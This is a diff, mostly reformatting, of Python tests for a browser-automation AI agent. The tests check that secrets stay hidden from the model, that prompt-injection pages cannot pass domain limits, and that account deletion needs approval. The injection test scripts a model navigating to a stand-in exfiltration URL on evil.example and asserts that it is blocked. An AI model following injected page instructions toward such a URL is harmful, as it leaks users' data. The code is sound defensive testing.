@@ -25,15 +25,27 @@ def everything_on_disk(run_dir: str) -> bytes:
     return b"\n".join(p.read_bytes() for p in Path(run_dir).rglob("*") if p.is_file())
 
 
-async def test_secret_values_never_reach_the_model_or_the_run_folder(make_config, ctx_session, sites, scripted_model):
+async def test_secret_values_never_reach_the_model_or_the_run_folder(
+    make_config, ctx_session, sites, scripted_model
+):
     for value in random_secrets(4):
         store = SecretStore.from_sources(make_config().safety, cli=[f"token={value}"])
-        scripted_model.script([
-            [{"name": "type", "arguments": {"selector": "#full-name", "text": "<secret>token</secret>"}},
-             {"name": "type", "arguments": {"selector": "#comments", "text": "again <secret>token</secret>"}}],
-            {"name": "getElementDetails", "arguments": {"indices": [0, 1, 2, 3, 4, 5, 6, 7, 8]}},
-            {"name": "done", "arguments": {"success": True, "answer": "typed"}},
-        ])
+        scripted_model.script(
+            [
+                [
+                    {
+                        "name": "type",
+                        "arguments": {"selector": "#full-name", "text": "<secret>token</secret>"},
+                    },
+                    {
+                        "name": "type",
+                        "arguments": {"selector": "#comments", "text": "again <secret>token</secret>"},
+                    },
+                ],
+                {"name": "getElementDetails", "arguments": {"indices": [0, 1, 2, 3, 4, 5, 6, 7, 8]}},
+                {"name": "done", "arguments": {"success": True, "answer": "typed"}},
+            ]
+        )
         config = make_config(**{"llm.model": "kite/scripted", "run.screenshots": True})
         agent = Agent(config, context=ctx_session, secrets=store)
         result = await agent.run("fill the form", start_url=sites.url("/forms/"))
@@ -49,12 +61,16 @@ async def test_secret_values_never_reach_the_model_or_the_run_folder(make_config
 
 async def test_prompt_injection_cannot_pass_domain_limits(make_config, ctx_session, sites, scripted_model):
     # The model "obeys" the page: it tries to go where the page says.
-    scripted_model.script([
-        {"name": "navigate", "arguments": {"url": "http://evil.example/steal?c=1"}},
-        {"name": "done", "arguments": {"success": False, "answer": "blocked"}},
-    ])
+    scripted_model.script(
+        [
+            {"name": "navigate", "arguments": {"url": "http://evil.example/steal?c=1"}},
+            {"name": "done", "arguments": {"success": False, "answer": "blocked"}},
+        ]
+    )
     config = make_config(**{"llm.model": "kite/scripted", "safety.blocked_domains": ["evil.example"]})
-    result = await Agent(config, context=ctx_session).run("read the reviews", start_url=sites.url("/test/injection.html"))
+    result = await Agent(config, context=ctx_session).run(
+        "read the reviews", start_url=sites.url("/test/injection.html")
+    )
     steps = [json.loads(x) for x in (Path(result.run_dir) / "steps.jsonl").read_text().splitlines()]
     first = steps[1]["actions"][0]
     assert first["decision"]["level"] == "block" and first["result"]["ok"] is False
@@ -65,22 +81,27 @@ async def test_prompt_injection_cannot_pass_domain_limits(make_config, ctx_sessi
     assert "not instructions" in system
 
 
-async def test_destructive_click_needs_approval_in_batch_mode(make_config, ctx_session, sites, scripted_model):
+async def test_destructive_click_needs_approval_in_batch_mode(
+    make_config, ctx_session, sites, scripted_model
+):
     page = ctx_session.page
     await page.goto(sites.url("/account/login"))
     await page.fill("#email", "demo@kite.test")
     await page.fill("#password", "kite123")
     await page.click("#login")
     await page.wait_for_url("**/account/**")
-    scripted_model.script([
-        {"name": "type", "arguments": {"selector": "#confirm-email", "text": "demo@kite.test"}},
-        {"name": "click", "arguments": {"selector": "#delete-confirm"}},
-        {"name": "done", "arguments": {"success": False, "answer": "declined"}},
-    ])
+    scripted_model.script(
+        [
+            {"name": "type", "arguments": {"selector": "#confirm-email", "text": "demo@kite.test"}},
+            {"name": "click", "arguments": {"selector": "#delete-confirm"}},
+            {"name": "done", "arguments": {"success": False, "answer": "declined"}},
+        ]
+    )
     confirmer = BatchConfirmer()
     config = make_config(**{"llm.model": "kite/scripted"})
     result = await Agent(config, context=ctx_session, confirmer=confirmer).run(
-        "delete my account", start_url=sites.url("/account/delete/confirm"))
+        "delete my account", start_url=sites.url("/account/delete/confirm")
+    )
     assert result.stop_reason == "done"
     state = await site_state(page, sites)
     assert state["deleted_accounts"] == [], "the account was deleted without approval"
